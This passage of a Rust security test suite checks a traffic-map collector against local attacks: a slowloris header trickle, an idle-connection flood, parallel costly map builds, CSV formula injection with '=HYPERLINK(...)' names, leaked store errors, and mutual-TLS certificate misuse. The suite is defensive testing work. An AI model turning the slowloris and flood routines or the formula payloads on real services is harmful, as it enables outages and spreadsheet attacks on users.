        build: |_| Req::get("/healthz"),
    },
    Attack {
        name: "viewer_open",
        request: "`GET /` (the viewer's page), no token",
        expect: Expect::Ok(200, "<!doctype html>"),
        times: 1,
        src: LOCAL,
        build: |_| Req::get("/"),
    },
];

/// Attacks that are more than one request; run by [`run_special`] under these names.
const SPECIAL: &[(&str, &str, &str, &str)] = &[
    (
        "parallel_map_builds",
        "40 parallel uncached 30-day map builds",
        "200, or 503 with `Retry-After`",
        "every legitimate report answered within 5 s meanwhile",
    ),
    (
        "per_address_cap",
        "65 idle connections from 127.0.0.1",
        "the 65th is closed at once",
        "the first 64 stay open; `/healthz` from 127.0.0.2 answers 200 `ok`",
    ),
    (
        "slowloris",
        "headers trickled one byte a second",
        "closed after the 10 s header timeout",
        "closed between 9 s and 15 s after connecting",
    ),
    (
        "idle_keepalive",
        "a keep-alive connection left idle after one request (`idle_timeout = \"3s\"`)",
        "closed",
        "closed 2.5 s to 6 s after the answer",
    ),
    (
        "store_errors_hidden",
        "(ClickHouse run) the store stopped, then `/healthz`, a map, a report",
        "503",
        "`/healthz` says only `unavailable`; no message names the store, its address or its error",
    ),
    (
        "csv_formula",
        "CSV export of a day whose inventory names and labels start with `=`, `+`, `-`, `@`",
        "200",
        "no cell starts with `= + - @` TAB CR; the name appears as `'=HYPERLINK(...)`; draw.io has no `html=1`",
    ),
    (
        "security_headers",
        "every response of this table",
        "CSP, `X-Frame-Options: DENY`, `nosniff`",
        "CSP has `default-src 'self'` and `frame-ancestors 'none'`, no `unsafe-inline`",
    ),
];

/// What every single-request attack also checks.
const CHECKED: &str = "status, message prefix, security headers; nothing stored";

/// The docs table generated from [`ATTACKS`] and [`SPECIAL`].
fn docs_table() -> String {
    let mut t = String::from(
        "| attack | request | answer | what is checked |\n| --- | --- | --- | --- |\n",
    );
    for a in ATTACKS {
        let times = if a.times > 1 {
            format!(" (x{})", a.times)
        } else {
            String::new()
        };
        t.push_str(&format!(
            "| `{}` | {}{} | {} | {} |\n",
            a.name,
            a.request,
            times,
            a.expect.doc(),
            CHECKED
        ));
    }
    for (name, request, answer, checked) in SPECIAL.iter().chain(TLS_ATTACKS) {
        t.push_str(&format!(
            "| `{name}` | {request} | {answer} | {checked} |\n"
        ));
    }
    t
}

// ---------------------------------------------------------------------------------------------
// Checks

const LOCAL: IpAddr = IpAddr::V4(std::net::Ipv4Addr::new(127, 0, 0, 1));
/// The legitimate agent's source address: the per-address cap on 127.0.0.1 must not hit it.
const AGENT_SRC: IpAddr = IpAddr::V4(std::net::Ipv4Addr::new(127, 0, 0, 3));
const OTHER_SRC: IpAddr = IpAddr::V4(std::net::Ipv4Addr::new(127, 0, 0, 2));
const SLOW_SRC: IpAddr = IpAddr::V4(std::net::Ipv4Addr::new(127, 0, 0, 4));
const BUILDS_SRC: IpAddr = IpAddr::V4(std::net::Ipv4Addr::new(127, 0, 0, 5));
const IDLE_SRC: IpAddr = IpAddr::V4(std::net::Ipv4Addr::new(127, 0, 0, 6));
/// The one trusted (authenticating) proxy of the configuration.
const PROXY_SRC: IpAddr = IpAddr::V4(std::net::Ipv4Addr::new(127, 0, 0, 7));

/// The security headers of CONTRACT8 ("Reads"), or what is wrong with them.
fn check_security_headers(r: &Response) -> Result<(), String> {
    let csp = r.header("Content-Security-Policy").unwrap_or_default();
    let mut wrong = Vec::new();
    if !csp.contains("default-src 'self'")
        || !csp.contains("frame-ancestors 'none'")
        || csp.contains("unsafe-inline")
    {
        wrong.push(format!("Content-Security-Policy `{csp}`"));
    }
    if r.header("X-Frame-Options") != Some("DENY") {
        wrong.push(format!("X-Frame-Options {:?}", r.header("X-Frame-Options")));
    }
    if r.header("X-Content-Type-Options") != Some("nosniff") {
        wrong.push(format!(
            "X-Content-Type-Options {:?}",
            r.header("X-Content-Type-Options")
        ));
    }
    if wrong.is_empty() {
        Ok(())
    } else {
        Err(format!("security headers: {}", wrong.join(", ")))
    }
}

fn check_answer(expect: Expect, r: &Response) -> Result<(), String> {
    let text = r.text();
    let short: String = text.chars().take(300).collect();
    match expect {
        Expect::Error(status, prefix) => {
            if r.status != status {
                return Err(format!("answered {} {short}, want {status}", r.status));
            }
            let msg = serde_json::from_slice::<Value>(&r.body)
                .ok()
                .and_then(|v| v["error"].as_str().map(str::to_owned))
                .ok_or_else(|| format!("body is not {{\"error\": ...}}: {short}"))?;
            if msg.is_empty() || !msg.starts_with(prefix) {
                return Err(format!("message `{msg}` does not start with `{prefix}`"));
            }
        }
        Expect::Ok(status, prefix) => {
            if r.status != status || !text.to_ascii_lowercase().starts_with(prefix) {
                return Err(format!(
                    "answered {} {short}, want {status} starting with `{prefix}`",
                    r.status
                ));
            }
        }
    }
    check_security_headers(r)
}

/// The legitimate agent: posts report after report (each its own minute) to the attacked and
/// the reference collector until told to stop; every answer must be 200 `stored` within 5 s.
struct Agent {
    sent: Mutex<Vec<DateTime<Utc>>>,
    failures: Mutex<Vec<String>>,
    stop: AtomicBool,
    slowest: Mutex<Duration>,
}

fn legit_post(dst: SocketAddr, src: IpAddr, body: &[u8]) -> Result<Duration, String> {
    let t = Instant::now();
    let r = send(
        dst,
        src,
        &Req::post(REPORTS, Body::Bytes(body.to_vec()))
            .header("Content-Type", "application/json")
            .bearer(LEGIT_TOKEN),
    )
    .map_err(|e| format!("{e}"))?;
    let took = t.elapsed();
    let v: Value = serde_json::from_slice(&r.body).unwrap_or(Value::Null);
    if r.status != 200 || v["status"] != "stored" {
        return Err(format!("answered {} {}", r.status, r.text()));
    }
    if took > Duration::from_secs(5) {
        return Err(format!("answered after {took:?} (over 5 s)"));
    }
    Ok(took)
}

fn run_agent(agent: &Agent, run: &str, attacked: SocketAddr, reference: SocketAddr) {
    let mut i = 0u64;
    while !agent.stop.load(Ordering::Relaxed) {
        // One report per minute, going back from 2 minutes ago (recent enough for every
        // retention, a new minute each so nothing merges into a "duplicate").
        let start = minute(2 + i as i64);
        let body = legit_report(run, i, start);
        for (who, dst, src) in [
            ("attacked", attacked, AGENT_SRC),
            ("reference", reference, LOCAL),
        ] {
            match legit_post(dst, src, &body) {
                Ok(took) => {
                    let mut s = agent.slowest.lock().unwrap();
                    *s = (*s).max(took);
                }
                Err(e) => agent
                    .failures
                    .lock()
                    .unwrap()
                    .push(format!("legitimate report {i} to the {who} collector: {e}")),
            }
        }
        agent.sent.lock().unwrap().push(start);
        i += 1;
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// One connection that trickles a header a byte a second; how long until the server closed it.
fn slowloris(dst: SocketAddr) -> Result<Duration, String> {
    let t = Instant::now();
    let mut s = hostile_support::connect_from(SLOW_SRC, dst).map_err(|e| e.to_string())?;
    s.set_read_timeout(Some(Duration::from_millis(200)))
        .unwrap();
    let head = format!("GET /healthz HTTP/1.1\r\nHost: {dst}\r\nX-Slow: ");
    s.write_all(head.as_bytes()).map_err(|e| e.to_string())?;
    let mut buf = [0u8; 4096];
    let mut last_byte = Instant::now();
    while t.elapsed() < Duration::from_secs(16) {
        match s.read(&mut buf) {
            Ok(0) => return Ok(t.elapsed()),
            // A 408 before the close is fine; the close is what counts.
            Ok(_) => {}
            Err(e)
                if e.kind() == std::io::ErrorKind::WouldBlock
                    || e.kind() == std::io::ErrorKind::TimedOut => {}
            Err(_) => return Ok(t.elapsed()),
        }
        if last_byte.elapsed() >= Duration::from_secs(1) {
            if s.write_all(b"a").is_err() {
                return Ok(t.elapsed());
            }
            last_byte = Instant::now();
        }
    }
    Err(format!(
        "still open after {:?} of trickled headers",
        t.elapsed()
    ))
}

/// Whether the server closed `s` within `wait` (EOF or reset); bytes before the close are
/// allowed (an error answer).
fn closed_within(s: &mut TcpStream, wait: Duration) -> bool {
    let until = Instant::now() + wait;
    s.set_read_timeout(Some(Duration::from_millis(100)))
        .unwrap();
    let mut buf = [0u8; 1024];
    while Instant::now() < until {
        match s.read(&mut buf) {
            Ok(0) => return true,
            Ok(_) => {}
            Err(e)
                if e.kind() == std::io::ErrorKind::WouldBlock
                    || e.kind() == std::io::ErrorKind::TimedOut => {}
            Err(_) => return true,
        }
    }
    false
}

/// One request on a keep-alive connection, then silence: how long after the answer the server
/// closed the connection.
fn idle_keepalive(dst: SocketAddr) -> Result<Duration, String> {
    let mut s = hostile_support::connect_from(IDLE_SRC, dst).map_err(|e| e.to_string())?;
    s.write_all(format!("GET /healthz HTTP/1.1\r\nHost: {dst}\r\n\r\n").as_bytes())
        .map_err(|e| e.to_string())?;
    s.set_read_timeout(Some(Duration::from_millis(50))).unwrap();
    let start = Instant::now();
    let mut raw = Vec::new();
    let mut answered: Option<Instant> = None;
    let mut buf = [0u8; 4096];
    while start.elapsed() < Duration::from_secs(20) {
        match s.read(&mut buf) {
            Ok(0) => {
                return answered
                    .map(|t| t.elapsed())
                    .ok_or_else(|| format!("closed without an answer: {raw:?}"));
            }
            Ok(n) => {
                raw.extend_from_slice(&buf[..n]);
                if answered.is_none() && raw.windows(4).any(|w| w == b"\r\n\r\n") {
                    answered = Some(Instant::now());
                }
            }
            Err(e)
                if e.kind() == std::io::ErrorKind::WouldBlock
                    || e.kind() == std::io::ErrorKind::TimedOut => {}
            Err(e) => {
                return answered
                    .map(|t| t.elapsed())
                    .ok_or_else(|| format!("{e} without an answer"));
            }
        }
        if let Some(t) = answered
            && t.elapsed() > Duration::from_secs(8)
        {
            return Err(format!("still open {:?} after the answer", t.elapsed()));
        }
    }
    Err("no answer within 20 s".into())
}

/// With the store gone, answers say so without the store's details (CONTRACT8: messages never
/// carry internal details; `/healthz` says only `ok` / `unavailable`).
fn store_errors_hidden(dst: SocketAddr, store_url: &str) -> Result<(), String> {
    let mut wrong = Vec::new();
    let h = send(dst, LOCAL, &Req::get("/healthz")).map_err(|e| e.to_string())?;
    if h.status != 503 || h.text().trim() != "unavailable" {
        wrong.push(format!("/healthz answered {} `{}`", h.status, h.text()));
    }
    let host_port = store_url.trim_start_matches("http://");
    let leaks = |m: &str| {
        let l = m.to_ascii_lowercase();
        l.contains("clickhouse")
            || l.contains(host_port)
            || l.contains("http://")
            || l.contains("error sending")
    };
    // A range no cache holds.
    let map = get(
        dst,
        &range_path(3).replace("view=instances", "view=clusters"),
    );
    if map.status != 503 || leaks(&map.text()) {
        wrong.push(format!("a map answered {} `{}`", map.status, map.text()));
    }
    let body = legit_report("down", 0, minute(200));
    let r = send(
        dst,
        AGENT_SRC,
        &Req::post(REPORTS, Body::Bytes(body))
            .header("Content-Type", "application/json")
            .bearer(LEGIT_TOKEN),
    )
    .map_err(|e| e.to_string())?;
    if r.status != 503 || leaks(&r.text()) {
        wrong.push(format!("a report answered {} `{}`", r.status, r.text()));
    }
    for x in [&h, &map, &r] {
        if let Err(e) = check_security_headers(x) {
            wrong.push(e);
        }
    }
    if wrong.is_empty() {
        Ok(())
    } else {
        Err(wrong.join("; "))
    }
}

fn per_address_cap(dst: SocketAddr) -> Result<(), String> {
    let mut held = Vec::new();
    for i in 0..65 {
        held.push(
            hostile_support::connect_from(LOCAL, dst)
                .map_err(|e| format!("connection {}: {e}", i + 1))?,
        );
    }
    let mut last = held.pop().unwrap();
    if !closed_within(&mut last, Duration::from_secs(3)) {
        return Err("the 65th idle connection from 127.0.0.1 was still open after 3 s".into());
    }
    // The first 64 are still there (the cap closes the extra one, not the others).
    for (i, s) in held.iter_mut().enumerate().take(3) {
        if closed_within(s, Duration::from_millis(300)) {
            return Err(format!("idle connection {} of 64 was closed", i + 1));
        }
    }
    let r = send(dst, OTHER_SRC, &Req::get("/healthz"))
        .map_err(|e| format!("/healthz from 127.0.0.2: {e}"))?;
    if r.status != 200 || r.text().trim() != "ok" {
        return Err(format!(
            "/healthz from 127.0.0.2 answered {} {}",
            r.status,
            r.text()
        ));
    }
    Ok(())
}

/// 40 uncached 30-day builds at once; each answer 200, or 503 with `Retry-After`.
fn parallel_map_builds(dst: SocketAddr) -> Result<(), String> {
    let to = minute(0);
    let answers: Vec<Result<Response, String>> = std::thread::scope(|s| {
        let handles: Vec<_> = (0..40)
            .map(|i| {
                s.spawn(move || {
                    // A different range each: no cache can answer.
                    let t = to - TimeDelta::minutes(i);
                    let f = t - TimeDelta::days(30);
                    let path = format!(
                        "/api/v1/maps?view={}&from={}&to={}",
                        ["instances", "clusters", "security-groups"][i as usize % 3],
                        f.to_rfc3339_opts(chrono::SecondsFormat::Secs, true),
                        t.to_rfc3339_opts(chrono::SecondsFormat::Secs, true)
                    );
                    send(dst, BUILDS_SRC, &Req::get(path).bearer(READ_TOKEN))
                        .map_err(|e| e.to_string())
                })
            })
            .collect();
        handles.into_iter().map(|h| h.join().unwrap()).collect()
    });
    let mut wrong = Vec::new();
    for (i, a) in answers.iter().enumerate() {
        match a {
            Ok(r) if r.status == 200 => {}
            Ok(r) if r.status == 503 && r.header("Retry-After").is_some() => {}
            Ok(r) => wrong.push(format!("build {i}: {} {}", r.status, r.text())),
            Err(e) => wrong.push(format!("build {i}: {e}")),
        }
        if let Ok(r) = a
            && let Err(e) = check_security_headers(r)
        {
            wrong.push(format!("build {i}: {e}"));
        }
    }
    if wrong.is_empty() {
        Ok(())
    } else {
        Err(wrong.join("; "))
    }
}

fn get(dst: SocketAddr, path: &str) -> Response {
    send(dst, LOCAL, &Req::get(path).bearer(READ_TOKEN))
        .unwrap_or_else(|e| panic!("GET {path}: {e}"))
}

/// The formula names must be neutralised in the CSV export, and draw.io must carry text.
fn csv_formula(dst: SocketAddr, day: NaiveDate) -> Result<(), String> {
    let r = get(
        dst,
        &format!("/api/v1/maps/export?view=instances&day={day}&format=csv"),
    );
    if r.status != 200 {
        return Err(format!("CSV export answered {} {}", r.status, r.text()));
    }
    let mut rd = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(&r.body[..]);
    let mut wrong = Vec::new();
    let mut neutralised = false;
    for rec in rd.records() {
        let rec = rec.map_err(|e| format!("CSV export does not parse: {e}"))?;
        for cell in rec.iter() {
            if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
                wrong.push(cell.to_owned());
            }
            if cell == format!("'{FORMULA_NAME}") {
                neutralised = true;
            }
        }
    }
    if !wrong.is_empty() {
        return Err(format!("CSV cells a spreadsheet evaluates: {wrong:?}"));
    }
    if !neutralised {
        return Err(format!(
            "no cell `'{FORMULA_NAME}` in the CSV export:\n{}",
            r.text()
        ));
    }
    let d = get(
        dst,
        &format!("/api/v1/maps/export?view=instances&day={day}&format=drawio"),
    );
    if d.status != 200 || d.text().contains("html=1") {
        return Err(format!(
            "draw.io export: {} with html=1 or failing",
            d.status
        ));
    }
    Ok(())
}

/// Every map and export the comparison covers, with `generated_at` taken out of JSON.
fn snapshot(
    dst: SocketAddr,
    days: &BTreeSet<NaiveDate>,
    hours: (DateTime<Utc>, DateTime<Utc>),
) -> Vec<(String, u16, Vec<u8>)> {
    let mut spans: Vec<String> = days.iter().map(|d| format!("day={d}")).collect();
    spans.push(format!(
        "from={}&to={}",
        hours.0.to_rfc3339_opts(chrono::SecondsFormat::Secs, true),
        hours.1.to_rfc3339_opts(chrono::SecondsFormat::Secs, true)
    ));
    let mut paths = vec!["/api/v1/days".to_owned()];
    for span in &spans {
        for view in ["instances", "clusters", "security-groups"] {
            paths.push(format!("/api/v1/maps?view={view}&{span}"));
            for f in ["csv", "drawio", "dot", "json"] {
                paths.push(format!("/api/v1/maps/export?view={view}&{span}&format={f}"));
            }
        }
    }
    paths
        .into_iter()
        .map(|p| {
            let r = get(dst, &p);
            let is_map = p.contains("format=json") || p.starts_with("/api/v1/maps?");
            let body = match serde_json::from_slice::<Value>(&r.body) {
                // The one field that legitimately differs: when the map was built.
                Ok(Value::Object(mut m)) if is_map && r.status == 200 => {
                    m.remove("generated_at");
                    serde_json::to_vec_pretty(&m).unwrap()
                }
                _ => r.body,
            };
            (p, r.status, body)
        })
        .collect()
}

/// Where two answers part: the first differing line with two lines of context on each side.
fn first_difference(got: &[u8], want: &[u8]) -> String {
    let (g, w) = (String::from_utf8_lossy(got), String::from_utf8_lossy(want));
    let (gl, wl): (Vec<&str>, Vec<&str>) = (g.lines().collect(), w.lines().collect());
    let at = gl
        .iter()
        .zip(&wl)
        .position(|(a, b)| a != b)
        .unwrap_or(gl.len().min(wl.len()));
    let window = |l: &[&str]| {
        l[at.saturating_sub(2)..(at + 3).min(l.len())]
            .iter()
            .map(|x| x.chars().take(200).collect::<String>())
            .collect::<Vec<_>>()
            .join("\n    ")
    };
    format!(
        "line {}:\n  attacked:\n    {}\n  reference:\n    {}",
        at + 1,
        window(&gl),
        window(&wl)
    )
}

fn collector(backend: Backend, dir: &Path, ch: Option<(&str, &str)>) -> Collector {
    std::fs::create_dir_all(dir).unwrap();
    let files = write_files(dir, &agent_token_lines(), &read_token_lines(), INVENTORY);
    let cfg = dir.join("collector.toml");
    std::fs::write(&cfg, config(backend, dir, &files, ch)).unwrap();
    Collector::start(&["--config", cfg.to_str().unwrap()])
}

fn run_backend(backend: Backend) {
    let ch = match backend {
        Backend::Sqlite => None,
        Backend::ClickHouse => match ClickHouse::start() {
            Some(c) => Some(c),
            None => return,
        },
    };
    let url = ch.as_ref().map(|c| c.url.clone());
    let dir = tempfile::tempdir().unwrap();
    let attacked = collector(
        backend,
        &dir.path().join("attacked"),
        url.as_deref().map(|u| (u, "attacked")),
    );
    let reference = collector(
        backend,
        &dir.path().join("reference"),
        url.as_deref().map(|u| (u, "reference")),
    );
    let (a, b) = (attacked.addr, reference.addr);
    let run = format!("{backend:?}").to_lowercase();
    let agent = Arc::new(Agent {
        sent: Mutex::new(Vec::new()),
        failures: Mutex::new(Vec::new()),
        stop: AtomicBool::new(false),
        slowest: Mutex::new(Duration::ZERO),
    });
    let mut failures: Vec<String> = Vec::new();
    std::thread::scope(|s| {
        let ag = agent.clone();
        let runner = s.spawn(move || run_agent(&ag, &run, a, b));
        // Some legitimate data first, so the maps attacked have content.
        let warm = Instant::now();
        while agent.sent.lock().unwrap().len() < 5 && warm.elapsed() < Duration::from_secs(30) {
            std::thread::sleep(Duration::from_millis(50));
        }
        let slow = s.spawn(move || slowloris(a));
        let idle = s.spawn(move || idle_keepalive(a));
        let ctx = Ctx {
            day: minute(2).date_naive(),
        };
        for attack in ATTACKS {
            for n in 0..attack.times {
                let req = (attack.build)(&ctx);
                match send(a, attack.src, &req) {
                    Ok(r) => {
                        if let Err(e) = check_answer(attack.expect, &r) {
                            failures.push(format!("{} (#{}): {e}", attack.name, n + 1));
                        }
                    }
                    Err(e) => failures.push(format!("{} (#{}): {e}", attack.name, n + 1)),
                }
            }
        }
        if let Err(e) = parallel_map_builds(a) {
            failures.push(format!("parallel_map_builds: {e}"));
        }
        if let Err(e) = per_address_cap(a) {
            failures.push(format!("per_address_cap: {e}"));
        }
        match slow.join().unwrap() {
            Ok(t) if t >= Duration::from_secs(9) && t <= Duration::from_secs(15) => {}
            Ok(t) => failures.push(format!("slowloris: closed after {t:?}, want 9..15 s")),
            Err(e) => failures.push(format!("slowloris: {e}")),
        }
        match idle.join().unwrap() {
            Ok(t) if t >= Duration::from_millis(2500) && t <= Duration::from_secs(6) => {}
            Ok(t) => failures.push(format!(
                "idle_keepalive: closed {t:?} after the answer, want 2.5..6 s"
            )),
            Err(e) => failures.push(format!("idle_keepalive: {e}")),
        }
        agent.stop.store(true, Ordering::Relaxed);
        runner.join().unwrap();
    });
    let sent = agent.sent.lock().unwrap().clone();
    failures.extend(agent.failures.lock().unwrap().iter().cloned());
    eprintln!(
        "{backend:?}: {} legitimate reports, slowest answer {:?}",
        sent.len(),
        agent.slowest.lock().unwrap()
    );
    let days: BTreeSet<NaiveDate> = sent.iter().map(|t| t.date_naive()).collect();
    let last = *sent.first().expect("the legitimate agent sent reports");
    let hours = (
        (last - TimeDelta::hours(3))
            .duration_trunc(TimeDelta::hours(1))
            .unwrap(),
        last + TimeDelta::minutes(1),
    );
    if let Err(e) = csv_formula(a, last.date_naive()) {
        failures.push(format!("csv_formula: {e}"));
    }
    // Nothing of the attacks stored, nothing broken: the same bytes as the reference.
    let (got, want) = (snapshot(a, &days, hours), snapshot(b, &days, hours));
    for ((p, gs, g), (_, ws, w)) in got.iter().zip(&want) {
        assert_eq!(
            *ws,
            200,
            "the reference answered GET {p}: {}",
            String::from_utf8_lossy(w)
        );
        if (gs, g) != (ws, w) {
            failures.push(format!(
                "GET {p}: the attacked collector answered {gs}, unlike the reference ({ws}); {}",
                first_difference(g, w)
            ));
        }
    }
    // Every legitimate byte is there, exactly (two equal empty maps would prove nothing): report
    // i carried 10410 + 6 i bytes in its three pairs.
    let want_bytes: u64 = (0..sent.len() as u64).map(|i| 10_410 + 6 * i).sum();
    let (first, last_end) = (
        *sent.iter().min().unwrap(),
        *sent.iter().max().unwrap() + TimeDelta::minutes(1),
    );
    for (who, dst) in [("attacked", a), ("reference", b)] {
        let r = get(
            dst,
            &format!(
                "/api/v1/maps?view=instances&from={}&to={}",
                first.to_rfc3339_opts(chrono::SecondsFormat::Secs, true),
                last_end.to_rfc3339_opts(chrono::SecondsFormat::Secs, true)
            ),
        );
        let got = serde_json::from_slice::<Value>(&r.body)
            .ok()
            .and_then(|v| v["totals"]["bytes"].as_u64());
        if got != Some(want_bytes) {
            failures.push(format!(
                "the {who} collector's map of the legitimate minutes holds {got:?} bytes, want {want_bytes}: {} {}",
                r.status,
                r.text().chars().take(300).collect::<String>()
            ));
        }
    }
    if let Some(ch) = ch {
        drop(ch);
        if let Err(e) = store_errors_hidden(a, url.as_deref().unwrap_or_default()) {
            failures.push(format!("store_errors_hidden: {e}"));
        }
    }
    drop(attacked);
    drop(reference);
    assert!(
        failures.is_empty(),
        "{backend:?}: {} failure(s):\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
#[ignore = "run by the hostile stage: cargo xtask test --only hostile"]
fn hostile_sqlite() {
    run_backend(Backend::Sqlite);
}

#[test]
#[ignore = "run by the hostile stage: cargo xtask test --only hostile"]
fn hostile_clickhouse() {
    run_backend(Backend::ClickHouse);
}

/// The baseline every attack changes is itself a valid report (so each refusal comes from the
/// one change), and so is the legitimate agent's.
#[test]
fn attacker_baseline_is_valid() {
    use trafficmap_model::report::Report;
    let r = attacker_report("atk-baseline-000001");
    Report::from_json(&serde_json::to_vec(&r).unwrap()).expect("the attacker's baseline");
    Report::from_json(&legit_report("check", 0, minute(2))).expect("the legitimate report");
}

/// docs/collector.md lists every attack with its answer: the table there is this test's.
#[test]
fn docs_table_lists_every_attack() {
    let names: BTreeSet<&str> = ATTACKS
        .iter()
        .map(|a| a.name)
        .chain(SPECIAL.iter().chain(TLS_ATTACKS).map(|s| s.0))
        .collect();
    assert_eq!(
        names.len(),
        ATTACKS.len() + SPECIAL.len() + TLS_ATTACKS.len(),
        "names repeat"
    );
    let docs = std::fs::read_to_string(support::root().join("docs/collector.md")).unwrap();
    let want = docs_table();
    assert!(
        docs.contains("### Attacks and answers") && docs.contains(&want),
        "docs/collector.md, \"Attacks and answers\", must hold exactly this table:\n\n{want}"
    );
}

// ---------------------------------------------------------------------------------------------
// Over TLS (mutual): what a token alone cannot do once client certificates name the host.

/// An HTTPS client like the agent's (reqwest with rustls), trusting `ca_pem`, with an optional
/// client certificate.
fn tls_client(ca_pem: &str, identity: Option<&(String, String)>) -> reqwest::Client {
    let mut b = reqwest::Client::builder()
        .timeout(Duration::from_secs(30))
        .connect_timeout(Duration::from_secs(5));
    for cert in reqwest::Certificate::from_pem_bundle(ca_pem.as_bytes()).unwrap() {
        b = b.add_root_certificate(cert);
    }
    if let Some((cert, key)) = identity {
        b = b.identity(reqwest::Identity::from_pem(format!("{cert}{key}").as_bytes()).unwrap());
    }
    b.build().unwrap()
}

/// The TLS attacks, for the docs table: (name, request, answer, what is checked).
const TLS_ATTACKS: &[(&str, &str, &str, &str)] = &[
    (
        "tls_plain_http",
        "plain HTTP to the TLS port",
        "no HTTP answer",
        "the connection carries no `HTTP/1.1` answer",
    ),
    (
        "tls_no_client_cert",
        "the legitimate token and report, no client certificate (mutual TLS on)",
        "403 `identity:`",
        "status, message prefix, security headers; nothing stored",
    ),
    (
        "tls_other_host_cert",
        "the legitimate token and report, the attacker's client certificate",
        "403 `identity:`",
        "status, message prefix, security headers; nothing stored",
    ),
    (
        "tls_foreign_ca_cert",
        "a client certificate of another CA naming the legitimate machine id",
        "handshake refused",
        "no HTTP answer",
    ),
];

async fn post_tls(
    client: &reqwest::Client,
    port: u16,
    token: &str,
    body: Vec<u8>,
) -> Result<Response, String> {
    let r = client
        .post(format!("https://localhost:{port}{REPORTS}"))
        .bearer_auth(token)
        .header("content-type", "application/json")
        .body(body)
        .send()
        .await
        .map_err(|e| format!("{e}"))?;
    let status = r.status().as_u16();
    let headers = r
        .headers()
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_str().unwrap_or_default().to_owned()))
        .collect();
    let body = r.bytes().await.map_err(|e| format!("{e}"))?.to_vec();
    Ok(Response {
        status,
        headers,
        body,
    })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "run by the hostile stage: cargo xtask test --only hostile"]
async fn hostile_tls() {
    let dir = tempfile::tempdir().unwrap();
    let files = write_files(
        dir.path(),
        &agent_token_lines(),
        &read_token_lines(),
        INVENTORY,
    );
    let server = Pki::new("hostile server CA");
    let (cert, key) = server.leaf(&["localhost"]);
    std::fs::write(dir.path().join("cert.pem"), &cert).unwrap();
    std::fs::write(dir.path().join("key.pem"), &key).unwrap();
    let agents = Pki::new("hostile agents CA");
    std::fs::write(dir.path().join("agents-ca.pem"), &agents.ca_pem).unwrap();
    let mut cfg = config(Backend::Sqlite, dir.path(), &files, None);
    cfg = format!(
        "tls_cert_file = \"{d}/cert.pem\"\ntls_key_file = \"{d}/key.pem\"\ntls_client_ca_file = \"{d}/agents-ca.pem\"\n{cfg}",
        d = dir.path().display()
    );
    let cfg_path = dir.path().join("collector.toml");
    std::fs::write(&cfg_path, cfg).unwrap();
    let c =
        tokio::task::block_in_place(|| Collector::start(&["--config", cfg_path.to_str().unwrap()]));
    let port = c.addr.port();
    let legit_cert = agents.leaf(&[LEGIT_MID]);
    let attacker_cert = agents.leaf(&[ATTACKER_MID]);
    let foreign = Pki::new("someone else's CA").leaf(&[LEGIT_MID]);
    let mut failures = Vec::new();
    let start = minute(2);
    let body = |i: u64| legit_report("tls", i, start - TimeDelta::minutes(i as i64));

    // Plain HTTP on the TLS port: no HTTP answer.
    let plain = tokio::task::block_in_place(|| send(c.addr, LOCAL, &Req::get("/healthz")));
    if let Ok(r) = &plain {
        failures.push(format!(
            "tls_plain_http: answered {} over plain HTTP",
            r.status
        ));
    }
    for (name, client) in [
        ("tls_no_client_cert", tls_client(&server.ca_pem, None)),
        (
            "tls_other_host_cert",
            tls_client(&server.ca_pem, Some(&attacker_cert)),
        ),
    ] {
        match post_tls(&client, port, LEGIT_TOKEN, body(1)).await {
            Ok(r) => {
                if let Err(e) = check_answer(Expect::Error(403, "identity:"), &r) {
                    failures.push(format!("{name}: {e}"));
                }
            }
            Err(e) => failures.push(format!("{name}: {e}")),
        }
    }
    let stranger = tls_client(&server.ca_pem, Some(&foreign));
    if let Ok(r) = post_tls(&stranger, port, LEGIT_TOKEN, body(1)).await {
        failures.push(format!(
            "tls_foreign_ca_cert: answered {} {}",
            r.status,
            r.text()
        ));
    }
    // The legitimate agent, with its certificate: stored, and only its bytes are there.
    let legit = tls_client(&server.ca_pem, Some(&legit_cert));
    match post_tls(&legit, port, LEGIT_TOKEN, body(0)).await {
        Ok(r) if r.status == 200 && r.json()["status"] == "stored" => {}
        Ok(r) => failures.push(format!(
            "legitimate report over TLS: {} {}",
            r.status,
            r.text()
        )),
        Err(e) => failures.push(format!("legitimate report over TLS: {e}")),
    }
    let map = legit
        .get(format!(
            "https://localhost:{port}/api/v1/maps?view=instances&from={}&to={}",
            (start - TimeDelta::minutes(5)).to_rfc3339_opts(chrono::SecondsFormat::Secs, true),
            (start + TimeDelta::minutes(1)).to_rfc3339_opts(chrono::SecondsFormat::Secs, true)
        ))
        .bearer_auth(READ_TOKEN)
        .send()
        .await
        .unwrap()
        .bytes()
        .await
        .unwrap();
    let map: Value = serde_json::from_slice(&map).unwrap_or(Value::Null);
    if map["totals"]["bytes"] != 10_410 {
        failures.push(format!(
            "over TLS the map holds {} bytes, want the legitimate 10410 only",
            map["totals"]["bytes"]
        ));
    }
    tokio::task::block_in_place(|| drop(c));
    assert!(
        failures.is_empty(),
        "TLS: {} failure(s):\n{}",
        failures.len(),
        failures.join("\n")
    );
}
